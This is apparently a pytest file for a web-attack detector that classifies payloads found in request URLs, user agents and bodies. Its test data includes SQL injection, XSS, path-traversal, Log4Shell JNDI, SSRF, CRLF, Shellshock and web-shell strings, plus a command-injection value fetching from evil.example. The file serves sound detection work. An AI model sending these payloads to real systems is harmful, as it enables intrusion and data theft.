"""Attacks in requests are told from what only looks like one, in whatever encoding, in linear time."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import polars as pl
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from watchfloor.enrich._request_marks import REQUEST_MARKS
from watchfloor.enrich._request_text import decoded
from watchfloor.enrich.enrich import enrich, enrichments
from watchfloor.enrich.plugin import Knowledge
from watchfloor.enrich.web_attack import attacks_in_agent, attacks_in_body, attacks_in_target
from watchfloor.enrich.web_verdict import Exchange, verdict
from watchfloor.schema.events import EventBatch
from watchfloor.schema.fields import arrow_type

REQUESTS = Path(__file__).parents[1] / "golden/requests"
ATTACKS = (REQUESTS / "attacks.txt").read_text("utf-8").splitlines()
LOOKALIKES = (REQUESTS / "lookalikes.txt").read_text("utf-8").splitlines()
KINDS = {
    "/p?id=1%2527%2520or%25201%253d1--": "sql_injection",
    "/a/1'%20or%20'1'='1": "sql_injection",
    "/p?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B": "xss",
    "/dl?f=..%c0%af..%c0%af..%c0%afetc/passwd": "path_traversal",
    "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir": "path_traversal",
    "/ping?host=$(curl+http://evil.example/x)": "command_injection",
    "/?page=php://filter/convert.base64-encode/resource=a": "file_inclusion",
    "/p?name={{7*7}}": "template_injection",
    "/p?x=${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/a}": "jndi_lookup",
    "/fetch?url=http://2852039166/latest/": "ssrf",
    "/r?u=/a%0d%0aSet-Cookie:%20x=1": "crlf_injection",
    "/uploads/a.php?c=ls+-la": "web_shell",
    "/login?user[$ne]=x": "nosql_injection",
    "/search?user=*)(uid=*))(|(uid=*": "ldap_injection",
    "/.git/config": "secret_file",
    "/db_backup_2024.tar.gz": "backup_file",
    "/HNAP1/": "probe",
}


def enriched(**fields: Any) -> dict[str, Any]:
    """One event, with what follows from its record alone."""
    arrays = {name.replace("__", "."): value for name, value in fields.items()}
    table = {name: pa.array([value], arrow_type(name)) for name, value in arrays.items()}
    time_column = {"@timestamp": pa.array([100], pa.int64()).cast(arrow_type("@timestamp"))}
    chosen = {name: each for name, each in enrichments().items() if each.of_record}
    return next(iter(enrich(EventBatch(pa.table(time_column | table)), Knowledge(), chosen).rows()))


@pytest.mark.parametrize("target", ATTACKS)
def test_attacks_are_recognised(target: str) -> None:
    assert attacks_in_target(target)
    assert pl.Series([target]).str.contains(REQUEST_MARKS).all()


@pytest.mark.parametrize("target", LOOKALIKES)
def test_look_alikes_are_left_alone(target: str) -> None:
    assert attacks_in_target(target) == []


@pytest.mark.parametrize(("target", "kind"), KINDS.items())
def test_kinds(target: str, kind: str) -> None:
    found = enriched(url__original=target)
    assert kind in found["watchfloor.web.attack"]
    assert found["watchfloor.web.attack_part"] in target
    assert found["watchfloor.web.attack_field"] == ["url.original"]


def test_other_fields_than_the_target() -> None:
    shell = "() { :; }; /bin/bash -c 'id'"
    assert attacks_in_agent(shell)[0].kinds == {"command_injection"}
    assert attacks_in_agent("sqlmap/1.8#stable (https://sqlmap.org)")[0].kinds == {"scanner"}
    assert attacks_in_agent("Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0") == []
    assert attacks_in_body("user=admin%27--+&pass=x")[0].part == "user=admin%27--+"
    assert attacks_in_body('{"name": "O\'Brien", "n": 1}') == []
    split = enriched(url__original="/a.asp", url__query="id=1 union select 1,2--")
    assert split["watchfloor.web.attack"] == ["sql_injection"]
    both = enriched(url__original="/.env", user_agent__original="Nikto/2.5")
    assert both["watchfloor.web.attack"] == ["scanner", "secret_file"]
    assert both["watchfloor.web.attack_aim"] == "download"


@pytest.mark.parametrize(
    ("exchange", "expected"),
    [
        (Exchange("delay", 200, 40, None, 5_020_000_000, 5, None, "GET"), "worked"),
        (Exchange("delay", 200, 40, None, 20_000_000, 5, None, "GET"), "failed"),
        (Exchange("delay", 200, 40, None, None, 5, None, "GET"), "unknown"),
        (Exchange("download", 200, 40, None, None, None, "text/plain", "GET"), "worked"),
        (Exchange("download", 200, 4000, None, None, None, "text/html; charset=utf-8", "GET"), "failed"),
        (Exchange("download", 200, 0, None, None, None, None, "GET"), "failed"),
        (Exchange("download", 302, 0, None, None, None, None, "GET"), "failed"),
        (Exchange("file", 403, 153, None, None, None, None, "GET"), "failed"),
        (Exchange("data", 500, 153, None, None, None, None, "GET"), "unknown"),
        (Exchange("data", 200, 153, None, None, None, None, "HEAD"), "unknown"),
        (Exchange("callback", 404, 153, None, None, None, None, "GET"), "unknown"),
        (Exchange("data", None, None, None, None, None, None, None), "unknown"),
    ],
)
def test_what_an_answer_tells(exchange: Exchange, expected: str) -> None:
    found, why = verdict(exchange)
    assert found == expected
    assert why


@given(st.text(alphabet=st.sampled_from("%27+&<>='\"()/.\\;|$[{}]ab0\u2019\uff07 \n"), max_size=200))
def test_any_text_is_read(text: str) -> None:
    attacks_in_target(f"/p?a={text}")
    assert decoded(decoded(text, form=False), form=False) is not None


@pytest.mark.parametrize(
    "piece", ["'", "(", "../", "<a ", "${", "%25", "/*", "\\", "; cat ", "{{", "union select a(", "1 or ", "\r\n", "&#"]
)
def test_time_grows_with_the_length_only(piece: str) -> None:
    def spent(length: int) -> float:
        target = "/p?a=" + piece * (length // len(piece))
        start = time.process_time()
        attacks_in_target(target)
        return time.process_time() - start

    spent(1_000)
    assert spent(16_000) < 1.0
